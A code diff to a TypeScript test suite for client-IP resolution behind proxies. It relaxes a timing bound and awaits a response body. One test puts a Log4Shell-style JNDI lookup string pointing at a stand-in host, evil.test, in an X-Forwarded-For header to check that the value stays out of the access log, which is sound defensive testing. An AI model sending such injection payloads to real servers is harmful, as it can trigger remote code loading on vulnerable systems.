@@ -305,14 +305,14 @@ describe('survives the broken', () => {
     expect(await ipOf({ proxies: ['10.0.0.0/8'] }, { 'x-forwarded-for': value }, { address: '10.0.0.1' })).toBe(
       '203.0.113.5',
     )
-    expect(performance.now() - started).toBeLessThan(100)
+    expect(performance.now() - started).toBeLessThan(500)
   })
 
   test('a claim does not reach the log', async () => {
     const lines: string[] = []
     const logged = clientIp({ hops: 1 })(accessLog({ write: (line) => lines.push(line) })(() => new Response('ok')))
     const headers = { 'x-forwarded-for': '${jndi:ldap://evil.test}, 203.0.113.5' }
-    await send(logged, requestTo('/', { headers }), contextOf({ address: '10.0.0.1' }))
+    await (await send(logged, requestTo('/', { headers }), contextOf({ address: '10.0.0.1' }))).text()
     expect(lines[0]).toContain('"client":"203.0.113.5"')
     expect(lines[0]).not.toContain('evil.test')
   })
